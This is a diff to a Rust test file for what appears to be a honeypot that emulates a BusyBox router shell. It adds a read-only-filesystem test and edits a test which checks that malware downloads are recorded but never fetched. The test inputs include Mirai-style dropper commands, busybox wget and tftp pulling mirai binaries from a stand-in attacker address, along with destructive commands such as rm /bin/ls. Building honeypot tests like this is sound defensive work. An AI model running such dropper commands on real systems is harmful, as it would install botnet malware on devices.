@@ -145,10 +145,22 @@ fn mirai_probes_answer_as_busybox() {
 }
 
 #[test]
+fn root_is_read_only_and_var_is_not() {
+    let (o, e, _) = exec(
+        "echo kami > /.nippon; echo kami > /var/tmp/.nippon; cat /var/tmp/.nippon; rm /bin/ls; mkdir /x; touch /etc/y; cp /etc/passwd /etc/p2; cd /tmp; echo a > b; cat b",
+    );
+    assert_eq!(o, "kami\na\n");
+    assert_eq!(
+        e,
+        "sh: can't create /.nippon: Read-only file system\nrm: can't remove '/bin/ls': Read-only file system\nmkdir: can't create directory '/x': Read-only file system\ntouch: /etc/y: Read-only file system\ncp: can't create '/etc/p2': Read-only file system\n"
+    );
+}
+
+#[test]
 fn downloads_are_recorded_never_fetched() {
     let mut sh = router_shell(false);
     let r = sh.exec(
-        b"/bin/busybox wget http://198.51.100.7/bins/mirai.mips -O - > .d; /bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.7",
+        b"cd /tmp; /bin/busybox wget http://198.51.100.7/bins/mirai.mips -O - > .d; /bin/busybox tftp -g -l dvrHelper -r mirai.arm 198.51.100.7",
         NOW,
     );
     let urls: Vec<&str> = r
